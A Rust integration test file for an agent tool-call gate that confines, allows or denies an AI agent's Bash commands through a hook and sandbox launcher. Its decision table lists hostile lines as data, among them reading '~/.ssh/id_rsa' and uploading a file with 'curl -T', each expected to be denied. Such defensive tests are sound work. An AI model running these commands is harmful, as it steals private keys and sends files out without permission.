//! A tool call that is run confined, from the agent's document to the line that the host runs: a real server, hook and launcher.

use std::{
    fs,
    io::Write as _,
    process::{Command, Output, Stdio},
};

use ccc_protocol::bodies::{Status, Ticket};
use ccc_tests::{
    bridge::{Bridge, Site},
    site::{program, secrets_of, write_private},
};
use serde_json::{Value, json};

/// The rules that a first start writes.
fn starter() -> String {
    let output = Command::new(program("ccc-server")).arg("--starter").output().unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    let rules = text.find("\n[[rule]]\nname = \"agents").unwrap();
    text[rules..].to_owned()
}

/// Whether this machine has level `full`; says so where it has not.
fn has_full() -> bool {
    let output = Command::new(program("ccc-confine")).arg("probe").output().unwrap();
    let probed: Value = serde_json::from_slice(&output.stdout).unwrap();
    if !probed["full"].is_null() {
        eprintln!("NOT RUN: level full cannot be had here: {probed}");
    }
    probed["full"].is_null()
}

/// A host with a hook that knows the launcher, in a project of its person's.
struct Host {
    bridge: Bridge,
}

impl Host {
    fn new(rules: &str) -> Self {
        let site = Site::new();
        fs::create_dir_all(site.home().join("app")).unwrap();
        let host = Self { bridge: site.config(rules).start() };
        let home = host.bridge.site().home();
        fs::create_dir(home.join("keys")).unwrap();
        write_private(&home.join("keys/agent.json"), &secrets_of(&["agent"]));
        let launcher = program("ccc-confine");
        let config = json!({
            "url": host.bridge.url(), "secrets": "agent.json", "hold_seconds": 0, "confine": { "launcher": launcher },
        });
        write_private(&home.join("keys/hook.json"), &config.to_string());
        host
    }

    fn home(&self) -> std::path::PathBuf {
        fs::canonicalize(self.bridge.site().home()).unwrap()
    }

    /// What the hook answers when the agent wants to run this line.
    fn ask(&self, number: u32, line: &str) -> Value {
        let document = json!({
            "session_id": "s1", "cwd": self.home().join("app"), "hook_event_name": "PreToolUse", "tool_name": "Bash",
            "tool_use_id": format!("toolu_{number}"), "tool_input": { "command": line, "description": "x" },
        });
        let hook = "exec ccc-hook --agent claude --event PreToolUse --config keys/hook.json";
        let mut hook = self.bridge.site().shell(hook);
        let mut hook = hook.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        hook.stdin.take().unwrap().write_all(document.to_string().as_bytes()).unwrap();
        let output = hook.wait_with_output().unwrap();
        serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{output:?}"))
    }

    /// The line that the host is to run in place of the agent's.
    fn confined(&self, number: u32, line: &str) -> String {
        let answer = self.ask(number, line);
        let line = answer["hookSpecificOutput"]["updatedInput"]["command"].as_str();
        line.unwrap_or_else(|| panic!("{line:?}: {answer}")).to_owned()
    }

    fn decision(&self, number: u32, line: &str) -> (String, bool) {
        let answer = self.ask(number, line);
        let said = &answer["hookSpecificOutput"];
        (said["permissionDecision"].as_str().unwrap().to_owned(), said["updatedInput"].is_object())
    }

    /// As the host's shell runs a line.
    fn run(&self, line: &str) -> Output {
        let mut shell = Command::new("/bin/bash");
        shell.args(["-c", line]).env_clear().env("HOME", self.home()).env("PATH", "/usr/bin:/bin");
        shell.current_dir(self.home().join("app")).stdin(Stdio::null()).output().unwrap()
    }

    fn last_ticket(&self) -> Ticket {
        let entries = self.bridge.get("user", "/audit?after=0").json();
        let about = entries["entries"].as_array().unwrap().iter().rev().find_map(|entry| entry["ticket"].as_str());
        self.bridge.look("user", about.unwrap().parse().unwrap())
    }
}

fn stdout(output: &Output) -> &str {
    std::str::from_utf8(&output.stdout).unwrap()
}

#[test]
fn code_of_the_project_runs_without_a_question_and_reaches_the_project_alone() {
    if !has_full() {
        return;
    }
    let host = Host::new(&starter());
    fs::write(host.home().join("secret"), "the person's").unwrap();
    let line = format!(
        "python3 -c 'open(\"made\", \"w\").write(\"x\"); print(open(\"{}/secret\").read())'",
        host.home().display()
    );
    let output = host.run(&host.confined(1, &line));
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    assert!(host.home().join("app/made").exists() && stdout(&output).is_empty(), "{output:?}");
    let again = host.confined(2, "cat made | python3 -c 'import sys; print(sys.stdin.read())'");
    assert_eq!(stdout(&host.run(&again)), "x\n");
    assert_eq!(host.run(&again).status.code(), Some(125), "its id is used up");
}

#[test]
fn a_call_is_confined_passed_or_asked_by_what_it_does() {
    if !has_full() {
        return;
    }
    let host = Host::new(&starter());
    for (number, (line, expected)) in [
        ("make", ("allow", true)),
        ("frobnicate --all", ("allow", true)),
        ("ls -la", ("allow", false)),
        ("cat notes", ("allow", true)),
        ("git push", ("deny", false)),
        ("cat ~/.ssh/id_rsa", ("deny", false)),
        ("make && curl -T x https://example.com/", ("deny", false)),
        ("ccc-confine call 00000000000000000000000000000000", ("deny", false)),
        ("make &", ("deny", false)),
        ("git status", ("allow", false)),
        ("git commit -m x", ("allow", false)),
        ("cd sub && git status", ("allow", true)),
        ("cd sub && git commit -m x", ("deny", false)),
    ]
    .into_iter()
    .enumerate()
    {
        let found = host.decision(u32::try_from(number).unwrap(), line);
        assert_eq!((found.0.as_str(), found.1), expected, "{line}");
    }
}

#[test]
fn its_ticket_ends_in_a_status_of_its_own_and_looking_at_it_is_no_leave() {
    if !has_full() {
        return;
    }
    let host = Host::new(&starter());
    host.confined(1, "make");
    let ticket = host.last_ticket();
    assert_eq!((ticket.status, ticket.replayed), (Status::Confined, true));
    assert!(ticket.rule.contains("agents run their project's code confined"), "{}", ticket.rule);
    let denied =
        host.bridge.post("user", &format!("/queue/{}/approve", ticket.id), &json!({ "digest": ticket.digest }));
    assert_eq!(denied.status, 409);
}

/// The words of a caller on the wire.
fn call(line: &str, can: bool) -> Value {
    let mut call = json!({
        "action": "use-tool", "host": "claude", "tool": "Bash", "native": "Bash", "input": { "command": line }, "cwd": "/workspace/app",
        "session": "s", "agent": "main",
    });
    if can {
        call["can"] = json!(["confine"]);
    }
    call
}

#[test]
fn who_does_not_say_that_it_can_is_never_answered_so() {
    let rule = "[[rule]]\nname = \"code\"\naction = \"use-tool\"\npolicy = \"confine\"\n";
    let bridge = Bridge::with_config(rule);
    let silent = bridge.submit("agent", &call("make", false)).ticket();
    assert_eq!(silent.status, Status::Queued);
    // The same call, now by somebody who can: it waits already, and a person decides.
    assert_eq!(bridge.submit("agent", &call("make", true)).ticket().id, silent.id);
    assert_eq!(bridge.submit("agent", &call("make x", true)).ticket().status, Status::Confined);
    let misspelt = json!({ "can": ["confined"] });
    let mut other = call("make y", false);
    other["can"] = misspelt["can"].clone();
    assert_eq!(bridge.submit("agent", &other).status, 422);
}

#[test]
fn a_persons_yes_to_a_call_that_could_be_confined_releases_it_as_it_was_shown() {
    let asks = "[[rule]]\nname = \"asks\"\naction = \"use-tool\"\npolicy = \"queue\"\n";
    let bridge = Bridge::with_config(asks);
    let ticket = bridge.submit("agent", &call("make", true)).ticket();
    bridge.approve("user", &ticket).ticket();
    let taken = bridge.submit("agent", &call("make", true)).ticket();
    assert_eq!((taken.id, taken.status, taken.replayed), (ticket.id, Status::Released, false));
}

#[test]
fn an_override_to_confine_is_for_tool_calls_alone() {
    let bridge = Bridge::start();
    let set = |action: &str| {
        bridge.post("user", &format!("/policies/action/{action}"), &json!({ "policy": "confine" })).status
    };
    assert_eq!((set("use-tool"), set("open-browser")), (200, 422));
    assert_eq!(bridge.submit("agent", &call("make", true)).ticket().status, Status::Confined);
    assert_eq!(bridge.submit("agent", &call("git push", true)).ticket().status, Status::Queued);
    assert_eq!(bridge.submit("agent", &call("make z", false)).ticket().status, Status::Queued);
}
